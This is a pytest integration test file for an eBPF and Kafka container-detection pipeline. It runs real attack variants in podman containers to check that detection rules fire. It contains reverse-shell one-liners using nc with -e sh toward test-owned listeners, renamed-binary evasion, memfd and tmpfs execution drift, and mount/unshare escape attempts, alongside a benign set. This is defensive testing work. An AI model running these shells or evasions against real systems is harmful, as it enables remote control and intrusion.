"""Attack classes the default rules must catch however the attack is written,
through the real pipeline (producer with eBPF, enrich and rules workers, Kafka)
and real podman containers: reverse shells, busybox applets, drift, escape
attempts; and a benign set that must raise nothing.

One pipeline serves the module; each test runs all variants of its class as
separate containers and waits for each one's alert. Reverse shells connect to
listeners of this test only: on 127.0.0.1 for host-network containers, and on
the bridge gateway (the host as a bridge container sees it) for the others.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from eunomia.config import KafkaSettings, Settings, TopicSettings
from eunomia.endpoints import wait_ready
from eunomia.kafka.topics import create_topics
from tests.requirements import require_bpf, require_podman
from tests.support.attack_tools import build_attack_tools
from tests.support.kafka_io import read_topic
from tests.support.podman import BUSYBOX_IMAGE, WORKLOAD, podman
from tests.support.ports import free_port_block
from tests.support.workers import eunomia_env, start_worker, stop

pytestmark = [pytest.mark.kafka, pytest.mark.bpf, pytest.mark.podman, pytest.mark.root]

IP_FREEBIND = 15  # linux/in.h: bind an address not (yet) on an interface


class Pipeline:
    def __init__(self, settings: Settings, tools: Path, scripts: Path) -> None:
        self.settings, self.tools, self.scripts = settings, tools, scripts
        self.tag = uuid.uuid4().hex[:6]
        self.names: list[str] = []
        self.ids: dict[str, str] = {}  # container id -> name (an early alert may lack the name)

    def run(self, name: str, *args: str, options: tuple[str, ...] = ()) -> str:
        """Run a busybox container to its end; returns its full name."""
        full = f"det-{name}-{self.tag}"
        self.names.append(full)
        podman("run", "--name", full, "-v", f"{self.tools.parent}:/tools:ro", "-v",
               f"{self.scripts}:/scripts:ro", *options, BUSYBOX_IMAGE, *args, timeout=60)
        cid = podman("inspect", "--format", "{{.Id}}", full).stdout.strip()
        assert cid, f"container {full} did not run"
        self.ids[cid] = full
        return full

    def alerts_until(self, want: dict[str, set[str]], timeout: float = 180) -> dict[str, set[str]]:
        """Rule ids raised per container of ``want`` once each has its expected rules."""
        def per_container(got: list[dict]) -> dict[str, set[str]]:
            out: dict[str, set[str]] = {n: set() for n in want}
            for a in got:
                name = self.ids.get(a.get("container_id") or "")
                if name in out:
                    out[name].add(a["rule_id"])
            return out

        got = read_topic(self.settings, "alerts", "alert", timeout=timeout,
                         until=lambda got: all(w <= per_container(got)[n] for n, w in want.items()))
        return per_container(got)


class Listener:
    """A TCP listener that gives each connecting shell one command and keeps
    what came back, per connection."""

    def __init__(self, address: str) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        self.sock.bind((address, 0))
        self.sock.listen(8)
        self.sock.settimeout(1)
        self.port = self.sock.getsockname()[1]
        self.replies: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(10)
                conn.sendall(b"echo pwned-$((6*7)); exit\n")
                data = b""
                try:
                    while chunk := conn.recv(4096):
                        data += chunk
                except (TimeoutError, ConnectionError):
                    pass
                self.replies.append(data)

    def close(self) -> None:
        self._stop = True
        self._thread.join(5)
        self.sock.close()


def _gateway() -> str:
    res = podman("network", "inspect", "podman", "--format", "{{range .Subnets}}{{.Gateway}}{{end}}")
    assert res.returncode == 0 and res.stdout.strip(), res.stderr
    return res.stdout.strip()


@pytest.fixture(scope="module")
def pipeline(kafka_bootstrap: str, podman_socket: str, tmp_path_factory: pytest.TempPathFactory
             ) -> Iterator[Pipeline]:
    require_bpf()
    require_podman()
    tmp = tmp_path_factory.mktemp("detect")
    settings = Settings(kafka=KafkaSettings(bootstrap_servers=kafka_bootstrap),
                        topics=TopicSettings(prefix=f"t{uuid.uuid4().hex[:8]}.", partitions=3))
    create_topics(settings)
    tools = build_attack_tools(tmp / "tools")
    scripts = tmp / "scripts"
    scripts.mkdir()
    (scripts / "entry.sh").write_text(
        "#!/bin/sh\nset -e\nfor f in /etc/passwd /etc/group; do sha256sum $f; done\n"
        "tar -cf /tmp/bin.tar /bin /etc/passwd\ntar -tf /tmp/bin.tar > /dev/null\necho ok\n")
    (scripts / "entry.sh").chmod(0o755)
    port = free_port_block()
    env = {**eunomia_env(settings), "EUNOMIA_METRICS_PORT": str(port),
           "EUNOMIA_PRODUCER__SPOOL_DIR": str(tmp / "spool"), "DOCKER_HOST": podman_socket}
    log = open(tmp / "producer.log", "wb")  # noqa: SIM115 - closed below
    producer = subprocess.Popen([sys.executable, "-m", "eunomia", "producer"], env=env, stdout=log,
                                stderr=subprocess.STDOUT)
    workers = [start_worker(settings, "enrich", "--grace", "2"), start_worker(settings, "rules")]
    p = Pipeline(settings, tools, scripts)
    try:
        assert wait_ready(port, timeout=120, alive=lambda: producer.poll() is None), \
            "producer died or not ready in 120 s: " + (tmp / "producer.log").read_text()[-3000:]
        yield p
    finally:
        for w in workers:
            stop(w)
        stop(producer)
        log.close()
        if p.names:
            podman("rm", "-f", *p.names)


def test_reverse_shells_to_loopback_and_bridge_peers(pipeline: Pipeline) -> None:
    loop, bridge = Listener("127.0.0.1"), Listener(_gateway())
    host = ("--network", "host")
    try:
        shells = [
            pipeline.run("rs-nc-e", "sh", "-c", f"nc 127.0.0.1 {loop.port} -e sh", options=host),
            pipeline.run("rs-busybox-nc", "sh", "-c", f"busybox nc 127.0.0.1 {loop.port} -e /bin/sh",
                         options=host),
            pipeline.run("rs-redirect", "/tools/attack_tools", "revshell", "127.0.0.1", str(loop.port),
                         options=host),
            pipeline.run("rs-bridge-nc-e", "sh", "-c", f"nc {_gateway()} {bridge.port} -e sh"),
            pipeline.run("rs-bridge-redirect", "/tools/attack_tools", "revshell", _gateway(),
                         str(bridge.port)),
        ]
    finally:
        loop.close()
        bridge.close()
    # every shell really ran the command it was given over its socket
    assert sum(b"pwned-42" in r for r in loop.replies + bridge.replies) == 5, loop.replies + bridge.replies
    got = pipeline.alerts_until({n: {"EUN-1002"} for n in shells})
    assert all("EUN-1002" in rules for rules in got.values()), got


def test_network_and_recon_tools_run_as_busybox_applets(pipeline: Pipeline) -> None:
    host = ("--network", "host")
    probe = "-w 1 127.0.0.1 9 < /dev/null"
    want = {
        pipeline.run("mc-busybox-nc", "sh", "-c", f"busybox nc {probe}; true", options=host): {"EUN-2001"},
        pipeline.run("mc-selfexe-nc", "sh", "-c", f"(exec -a nc /proc/self/exe {probe}); true",
                     options=host): {"EUN-2001"},
        pipeline.run("mc-path-nc", "sh", "-c", f"/bin/busybox nc {probe}; true",
                     options=host): {"EUN-2001"},
    }
    got = pipeline.alerts_until(want)
    assert all(want[n] <= got[n] for n in want), got


def test_drift_from_upper_layer_tmpfs_and_memfd(pipeline: Pipeline) -> None:
    copy_run = "mkdir -p {d}/ && cp /bin/busybox {d}/bb && {d}/bb echo drift"
    tmpfs = "rw,exec,size=8m"
    want = {
        pipeline.run("dr-tmp", "sh", "-c", copy_run.format(d="/tmp")): {"EUN-1005"},
        pipeline.run("dr-vartmp", "sh", "-c", copy_run.format(d="/var/tmp")): {"EUN-1005"},
        pipeline.run("dr-root", "sh", "-c", copy_run.format(d="")): {"EUN-1005"},
        pipeline.run("dr-tmp-tmpfs", "sh", "-c", copy_run.format(d="/tmp"),
                     options=("--tmpfs", f"/tmp:{tmpfs}")): {"EUN-1005"},
        pipeline.run("dr-shm", "sh", "-c", copy_run.format(d="/dev/shm"),
                     options=("--tmpfs", f"/dev/shm:{tmpfs}")): {"EUN-1005"},
        pipeline.run("dr-memfd", "/tools/attack_tools", "memfd", "/bin/busybox", "echo",
                     "drift"): {"EUN-1005"},
    }
    got = pipeline.alerts_until(want)
    assert all(want[n] <= got[n] for n in want), got


def test_escape_attempts_that_fail_and_that_succeed(pipeline: Pipeline) -> None:
    admin = ("--cap-add", "SYS_ADMIN")
    unconfined = ("--security-opt", "seccomp=unconfined")
    attempts = [
        pipeline.run("es-unshare-denied", "sh", "-c", "unshare -m true; true"),
        pipeline.run("es-mount-denied", "sh", "-c", "mount -t tmpfs none /mnt; true",
                     options=unconfined),
        pipeline.run("es-unshare-ok", "sh", "-c", "unshare -m true", options=admin),
        pipeline.run("es-mount-ok", "sh", "-c", "mount -t tmpfs none /mnt", options=admin),
    ]
    got = pipeline.alerts_until({n: {"EUN-1007"} for n in attempts})
    assert all("EUN-1007" in rules for rules in got.values()), got


def test_benign_workloads_raise_nothing(pipeline: Pipeline) -> None:
    benign = [
        pipeline.run("bn-web", "sh", "-c", WORKLOAD, options=("--network", "host")),
        pipeline.run("bn-entry-script", "/scripts/entry.sh"),
        pipeline.run("bn-sh-entry-script", "sh", "/scripts/entry.sh"),
        pipeline.run("bn-archive", "sh", "-c",
                     "tar -czf /tmp/a.tgz /etc/passwd /etc/group /bin && tar -tzf /tmp/a.tgz > /dev/null"
                     " && sha256sum /tmp/a.tgz && md5sum /bin/busybox && gzip -t /tmp/a.tgz"),
    ]
    # an attack container after them: once its alert is in, the rules worker
    # has judged everything before it on its partitions (several windows later)
    marker = pipeline.run("bn-marker", "sh", "-c", "cp /bin/busybox /tmp/bb && /tmp/bb true")
    time.sleep(10)
    got = pipeline.alerts_until({marker: {"EUN-1005"}, **{n: set() for n in benign}})
    assert {n: r for n, r in got.items() if n in benign and r} == {}
